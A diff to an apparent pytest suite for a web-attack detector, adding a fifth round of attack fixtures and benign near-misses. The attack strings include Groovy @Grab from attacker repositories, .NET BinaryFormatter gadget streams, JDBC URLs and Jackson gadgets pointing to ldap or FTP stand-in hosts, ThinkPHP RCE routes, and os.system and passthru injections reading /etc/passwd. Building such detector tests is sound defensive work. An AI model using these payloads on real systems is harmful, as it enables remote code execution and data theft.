@@ -1148,10 +1148,75 @@ R3C_BENIGN = [
 ]
 
 
+# Round 5 (blind batches): Groovy compile-time annotations (`@Grab` from an attacker's repository, `@ASTTest`), .NET
+# BinaryFormatter streams in base64 (ysoserial.net, ViewState), JDBC URLs that run code or deserialize, Jackson gadget
+# class names, ThinkPHP namespaced-controller routes, and searches for an API name that stay clean. Written before the
+# fix and measured on the code before round 5's changes.
+def _bf(prefix: bytes, types: str) -> str:
+    """A BinaryFormatter stream (header, library record, class record naming `types`) after `prefix`, base64."""
+    lib = b"PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35"
+    body = (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
+            + bytes([len(lib)]) + lib + b"\x05\x01\x00\x00\x00" + bytes([len(types)]) + types.encode() + b"\x01\x00\x00\x00")
+    return base64.b64encode(prefix + body).decode()
+
+
+R5_ATTACKS = [
+    ("groovy grab r5", "form", "@GrabResolver(name='r', root='http://203.0.113.9:8080/repo/')\n@Grab(group='evil', module='x', version='1')\nimport Payload"),
+    ("groovy grab r5", "q", "@GrabConfig(disableChecksums=true) @Grab('com.attacker:rce:1.0') import Rce;"),
+    ("groovy grab r5", "json", "@Grapes([@Grab(group='org.x', module='y', version='1')])\nclass A {}"),
+    ("groovy grab r5", "rawq", "sandbox=true&value=%40groovy.transform.ASTTest(value%3D%7B%20new%20File('%2Ftmp%2Fp').text%3D'x'%20%7D)%0Aclass%20X%7B%7D"),
+    ("groovy grab r5", "form", "@ASTTest(value={ assert new File('/tmp/pwned').createNewFile() })\ndef x"),
+    ("dotnet binaryformatter r5", "form", _bf(b"", "System.Windows.Data.ObjectDataProvider")),
+    ("dotnet binaryformatter r5", "cookie", _bf(b"\xff\x01\x32\x80", "System.Security.Claims.ClaimsIdentity")),
+    ("dotnet binaryformatter r5", "json", _bf(b"\xff\x01\x32\xc4\x02", "System.Collections.Generic.SortedSet`1")),
+    ("dotnet binaryformatter r5", "form", _bf(b"\x01", "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties")),
+    ("dotnet binaryformatter r5", "q", _bf(b"", "System.Data.DataSet").replace("+", "-").replace("/", "_")),
+    ("jdbc url r5", "json", "jdbc:h2:tcp://10.0.0.9/~/x;INIT=RUNSCRIPT FROM 'ftp://203.0.113.3/a.sql'"),
+    ("jdbc url r5", "form", "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=1;INIT=CREATE TRIGGER t BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS '//javascript\nx'"),
+    ("jdbc url r5", "json", "jdbc:mysql://203.0.113.5:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=yso_CC6_id"),
+    ("jdbc url r5", "form", "jdbc:mysql://evil.example:3306/db?allowLoadLocalInfile=true&allowUrlInLocalInfile=true"),
+    ("jdbc url r5", "json", "jdbc:postgresql://db/test?loggerLevel=DEBUG&loggerFile=../webapps/ROOT/shell.jsp"),
+    ("jdbc url r5", "json", "jdbc:db2://127.0.0.1:50001/BLUDB:clientRerouteServerListJNDIName=ldap://evil.example:1389/a;"),
+    ("jackson gadget r5", "rawjson", '["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://203.0.113.7:1389/Exploit"}]'),
+    ("jackson gadget r5", "rawjson", '["com.zaxxer.hikari.HikariConfig", {"metricRegistry": "ldap://x.example:1389/a"}]'),
+    ("jackson gadget r5", "rawjson", '["org.apache.commons.dbcp2.datasources.SharedPoolDataSource", {"dataSourceName": "ldap://x.example/a"}]'),
+    ("jackson gadget r5", "rawjson", '{"obj": ["org.apache.ibatis.datasource.jndi.JndiDataSourceFactory", {"properties": {"data_source": "ldap://x.example/a"}}]}'),
+    ("thinkphp route r5", "rawq", "s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1"),
+    ("thinkphp route r5", "rawq", "s=index/\\think\\Request/input&filter=system&data=id"),
+    ("thinkphp route r5", "rawq", "s=index/\\think\\template\\driver\\file/write&cacheFile=shell.php&content=x"),
+    ("thinkphp route r5", "rawq", "s=index/\\think\\view\\driver\\Php/display&content=x"),
+    ("thinkphp route r5", "rawq", "s=index/think\\app/invokefunction&function=phpinfo&vars[0]=100"),
+    ("thinkphp route r5", "rawq", "s=/Index/%5Cthink%5CContainer/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=ls"),
+    # the code-search exemption below must not open the calls themselves
+    ("python call r5", "q", 'os.system("id")'),
+    ("python call r5", "q", '";os.system("id");"'),
+    ("python call r5", "form", '"subprocess.run(" + cmd + ", shell=True)"'),
+    ("python call r5", "json", "subprocess.check_output(['cat','/etc/passwd'])"),
+    ("python call r5", "q", "'os.system(\"id\")'"),
+    ("python call r5", "cookie", '"os.popen(\'whoami\').read()"'),
+    ("php call r5", "q", "'.system('id').'"), ("php call r5", "form", '".passthru("cat /etc/passwd")."'),
+    ("php call r5", "q", "1;$x.popen('id','r');"),
+    ("php call r5", "q", "1;a.popen(' id','r');"),
+    ("dotnet process r5", "form", "@{ new System.Diagnostics.ProcessStartInfo(\"powershell\") }"),
+]
+R5_BENIGN = [
+    ("q", '"os.system(" path:*.py'), ("q", "'os.popen(' deprecated replacement"),
+    ("q", 'repo:acme/api "subprocess.check_output(" language:Python'),
+    ("form", 'Semgrep found "subprocess.run(" with shell=True in 3 files'), ("q", '"os.spawnlp(" example'),
+    ("q", "System.Diagnostics.Process class members"), ("q", "@Grab annotation groovy"), ("q", "grape @GrabResolver"), ("form", "the @ASTTest docs are thin"),
+    ("form", "/wEPDwUKLTIwNjQ2NjQ0MmRkZnN0YXRlX3ZhbHVlX2hlcmU="), ("form", "/wEWAgKL7dzCCAKM54rGBg=="),
+    ("q", "jdbc:h2:mem:testdb;DB_CLOSE_DELAY=-1"), ("json", "jdbc:mysql://db.internal:3306/shop?useSSL=true&serverTimezone=UTC"),
+    ("json", "jdbc:postgresql://localhost:5432/app?sslmode=require"),
+    ("form", "spring.datasource.url=jdbc:h2:file:./data/demo;AUTO_SERVER=TRUE;INIT=RUNSCRIPT FROM './schema.sql'"),
+    ("json", "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'classpath:schema.sql'"),
+    ("json", "ch.qos.logback.classic.Logger"), ("rawq", "s=index/user/login"), ("q", "think\\app invokefunction exploit"),
+]
+
+
 # Round 1 (free-form, ATTACKS/BENIGN) and round 2 (one class per CRS rule, then two later batches) stay separate lists
 # for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
-_ATTACKS = [("", c, v) for c, v in ATTACKS] + CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA + R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS
-_NEAR_MISSES = BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN + R3_BENIGN + R3B_BENIGN + R3C_BENIGN
+_ATTACKS = [("", c, v) for c, v in ATTACKS] + CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA + R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS + R5_ATTACKS
+_NEAR_MISSES = BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN + R3_BENIGN + R3B_BENIGN + R3C_BENIGN + R5_BENIGN
 
 
 @pytest.mark.parametrize("cls,carrier,value", _ATTACKS, ids=[f"{k}|{c}:{v[:30]}" for k, c, v in _ATTACKS])
